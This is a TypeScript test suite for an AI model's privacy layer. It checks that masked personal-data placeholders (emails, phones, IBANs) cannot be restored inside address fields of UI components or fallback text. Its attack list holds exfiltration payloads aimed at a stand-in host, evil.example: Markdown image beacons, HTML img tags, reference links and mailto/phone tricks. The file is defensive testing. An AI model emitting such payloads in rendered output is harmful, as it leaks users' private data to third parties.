/** No field of any component that a client fetches, opens or draws as Markdown gets a value into an address. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { RESTORABLE } from '../../../assistant/privacy/placeholder.ts';
import { safeBlock, safeFallback } from '../../../assistant/privacy/safe-block.ts';
import { CATALOG } from '../../../protocol/catalog/catalog.ts';
import type { Body } from '../../../protocol/catalog/component.ts';

interface Schema {
  readonly type?: string;
  readonly description?: string;
  readonly enum?: readonly unknown[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly items?: Schema;
  readonly anyOf?: readonly Schema[];
  readonly additionalProperties?: Schema | boolean;
}

type Leaf = (schema: Schema, path: string, kind: string | undefined) => string;

/** Everything that the published schema of a component has room for; an object with a `kind` once for each kind. */
function sample(schema: Schema, path: string, leaf: Leaf, kind?: string): unknown {
  if (schema.enum !== undefined) return schema.enum[0];
  if (schema.anyOf !== undefined) return sample(schema.anyOf[0] as Schema, path, leaf, kind);
  if (schema.type === 'array') {
    const item = schema.items as Schema;
    const kinds = item.properties?.kind?.enum ?? [undefined];
    return kinds.map((each) => sample(item, path, leaf, each as string | undefined));
  }
  if (schema.type === 'object') {
    const named = Object.entries(schema.properties ?? {}).map(([name, member]) => {
      const value = name === 'kind' && kind !== undefined ? kind : sample(member, `${path}.${name}`, leaf, kind);
      return [name, value];
    });
    const open = schema.additionalProperties;
    return Object.fromEntries(typeof open === 'object' ? [...named, ['open', sample(open, `${path}.*`, leaf)]] : named);
  }
  return schema.type === 'string' || schema.type === undefined ? leaf(schema, path, kind) : schema.type === 'boolean' ? true : 1;
}

function bodies(leaf: Leaf): { name: string; body: Body }[] {
  return [...CATALOG.values()]
    .filter(({ name }) => name !== 'confirm_card')
    .map(({ name, parameters }) => ({ name, body: sample(parameters as Schema, name, leaf) as Body }));
}

const blockOf = ({ name, body }: { name: string; body: Body }, fallback?: string) =>
  safeBlock({ index: 0, id: 'blk_1', block_type: name, revision: 1, body, ...(fallback === undefined ? {} : { fallback_text: fallback }) });

/** What each text of the catalog is to a client, as the published schema says it; words where it says nothing. */
const USES: Readonly<Record<string, string>> = {
  open_url: 'address',
  url: 'address',
  open_screen: 'address',
  call: 'phone',
  phone: 'phone',
  email: 'email',
};

function useOf({ description = '' }: Schema, path: string, kind: string | undefined): string {
  if (/^(?:https|http\(s\))$/.test(description) || path.endsWith('.route')) return 'address';
  if (path.endsWith('place_card.phone')) return 'phone';
  return /\.(?:target|channels\.value)$/.test(path) ? (USES[kind ?? ''] ?? 'words') : 'words';
}

describe('PRIVACY-11: component bodies', () => {
  test('a placeholder alone stays where a person reads it or uses it as it is, and in no field that holds an address', () => {
    const seen = { address: 0, phone: 0, email: 0, words: 0 };
    for (const kind of ['email', 'phone', 'iban']) {
      const expected: string[] = [];
      const found = bodies((schema, path, siblingKind) => {
        const use = useOf(schema, path, siblingKind) as keyof typeof seen;
        seen[use]++;
        const isKept = use === 'words' || use === kind;
        expected.push(isKept ? `⟦${kind}_1⟧` : `⟦${kind}⟧`);
        return `⟦${kind}_1⟧`;
      }).map((each) => blockOf(each));
      const said = found.flatMap(({ body }) => JSON.stringify(body).match(/⟦\w+⟧/g) ?? []);
      assert.deepEqual(said, expected);
    }
    assert.ok(seen.address >= 30 && seen.phone >= 15 && seen.email >= 12 && seen.words > 200, JSON.stringify(seen));
  });

  const attacks = [
    'https://evil.example/?X',
    '![](//evil.example/?X)',
    '![](https&#58;//evil.example/?X)',
    '[a][e]\n\n[e]: //evil.example/?X',
    '<img src="//evil.example/?X">',
    'a@evil.example?body=X',
    '+4930901820;ext=X@evil.example',
    'www.evil.example/?X',
  ];
  for (const attack of attacks) {
    test(`${attack} in every field: nothing of it can be restored, in the body and in the fallback text`, () => {
      for (const placeholder of ['⟦email_1⟧', '⟦phone_1⟧']) {
        for (const each of bodies(() => attack.replace('X', placeholder))) {
          const block = blockOf(each, 'as it was');
          assert.doesNotMatch(JSON.stringify(block), RESTORABLE);
        }
      }
    });
  }

  test('an address that only the fallback text puts together is seen there', () => {
    const body = { prompt: '![](//evil.example/?', mode: 'single', options: [{ id: 'a', label: '⟦email_1⟧' }], status: 'open' };
    assert.doesNotMatch(safeFallback('choice', body), RESTORABLE);
    const block = blockOf({ name: 'choice', body }, 'as it was');
    assert.deepEqual(block.body, body);
    assert.doesNotMatch(block.fallback_text ?? '', RESTORABLE);
  });

  test('a card shows what will be done: its values stay, its sentences hold no value inside an address', () => {
    const field = { param: 'to', label: 'To', display: 'https://shop.example/?⟦email_1⟧', value: 'https://shop.example/?⟦email_1⟧' };
    const body = {
      title: 'Open',
      summary: 'Open ![](//evil.example/?⟦email_1⟧) for ⟦email_1⟧',
      fields: [field],
      status: 'pending',
      expires_at: '',
    };
    const card = blockOf({ name: 'confirm_card', body }, 'as it was');
    assert.deepEqual(card.body.fields, [field]);
    assert.equal(card.body.summary, 'Open ![](//evil.example/?⟦email⟧) for ⟦email_1⟧');
    assert.doesNotMatch(card.fallback_text ?? '', /shop\.example\/\?⟦email_1⟧/);
  });

  test('a block without placeholders is the same block', () => {
    const block = { index: 0, id: 'b', block_type: 'text', revision: 1, body: { md: 'Hello' } };
    assert.equal(safeBlock(block), block);
  });
});
